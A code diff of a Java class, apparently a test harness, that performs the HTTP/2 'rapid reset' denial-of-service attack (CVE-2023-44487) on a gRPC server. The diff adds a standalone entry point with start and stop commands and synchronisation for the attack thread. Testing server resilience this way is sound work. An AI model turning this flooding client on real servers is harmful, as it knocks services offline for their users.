@@ -23,11 +23,16 @@ import io.netty.handler.codec.http2.Http2FrameReader;
 import io.netty.handler.codec.http2.Http2FrameWriter;
 import io.netty.handler.codec.http2.Http2Headers;
 import io.netty.handler.codec.http2.Http2Settings;
+import java.io.BufferedReader;
+import java.io.InputStreamReader;
 import java.net.InetSocketAddress;
+import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.CountDownLatch;
 import java.util.concurrent.TimeUnit;
 import java.util.concurrent.atomic.AtomicLong;
+import org.jspecify.annotations.Nullable;
 
 /**
  * A hostile HTTP/2 client (CVE-2023-44487, "rapid reset"): on one connection it opens a gRPC call and resets it
@@ -35,6 +40,9 @@ import java.util.concurrent.atomic.AtomicLong;
  * again. It speaks raw frames, so no client-side safety net slows it down.
  */
 final class RapidResetAttacker implements AutoCloseable {
+
+    /** Starts every line the attacker's process reports on standard output. */
+    static final String REPORT_PREFIX = "rapid-reset-attacker: ";
 
     /** HEADERS + RST_STREAM pairs written per flush. */
     private static final int PAIRS_PER_BATCH = 64;
@@ -46,6 +54,8 @@ final class RapidResetAttacker implements AutoCloseable {
     private final AtomicLong connections = new AtomicLong();
     private final AtomicLong connectionsClosed = new AtomicLong();
     private volatile boolean running;
+    private @Nullable Thread attackThread;
+    private volatile CountDownLatch firstFrames = new CountDownLatch(0);
 
     RapidResetAttacker(InetSocketAddress server) {
         this.server = server;
@@ -71,8 +81,41 @@ final class RapidResetAttacker implements AutoCloseable {
         }
     }
 
-    /** Attacks connection after connection on a thread of its own until {@link #close()}. */
-    void attackContinuously() {
+    /**
+     * Runs an attacker in a process of its own, driven by lines on standard input: {@code start} attacks
+     * connection after connection and prints {@code attacking} once the first frames are out, {@code stop} finishes the connection under attack and prints
+     * {@code connections closed resets}, the totals so far. It prints {@code ready} first. Each of these lines
+     * starts with {@link #REPORT_PREFIX}, apart from whatever logging shares standard output.
+     *
+     * <p>Arguments: the server's host and port.
+     */
+    public static void main(String[] args) throws Exception {
+        InetSocketAddress target = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
+        BufferedReader commands = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
+        try (RapidResetAttacker attacker = new RapidResetAttacker(target)) {
+            System.out.println(REPORT_PREFIX + "ready");
+            for (String command = commands.readLine(); command != null; command = commands.readLine()) {
+                if (command.equals("start")) {
+                    attacker.startAttacking();
+                    System.out.println(REPORT_PREFIX + "attacking");
+                } else if (command.equals("stop")) {
+                    attacker.stopAttacking();
+                    System.out.println(REPORT_PREFIX + attacker.connections() + " " + attacker.connectionsClosed() + " "
+                            + attacker.resetsSent());
+                } else {
+                    throw new IllegalArgumentException("command: " + command + " (expected: start or stop)");
+                }
+            }
+        }
+    }
+
+    /**
+     * Attacks connection after connection on a thread of its own until {@link #stopAttacking()}; returns once the
+     * first frames are on their way.
+     */
+    void startAttacking() throws InterruptedException {
+        CountDownLatch flooding = new CountDownLatch(1);
+        firstFrames = flooding;
         running = true;
         Thread thread = new Thread(
                 () -> {
@@ -85,8 +128,18 @@ final class RapidResetAttacker implements AutoCloseable {
                     }
                 },
                 "rapid-reset-attacker");
-        thread.setDaemon(true);
         thread.start();
+        attackThread = thread;
+        flooding.await();
+    }
+
+    /** Lets the connection under attack end (the server closes it) and returns once it has. */
+    void stopAttacking() throws InterruptedException {
+        running = false;
+        Thread thread = attackThread;
+        if (thread != null) {
+            thread.join();
+        }
     }
 
     long resetsSent() {
@@ -191,6 +244,7 @@ final class RapidResetAttacker implements AutoCloseable {
                 resetsSent.incrementAndGet();
             }
             ctx.flush();
+            firstFrames.countDown();
             ctx.executor().execute(() -> flood(ctx));
         }
 
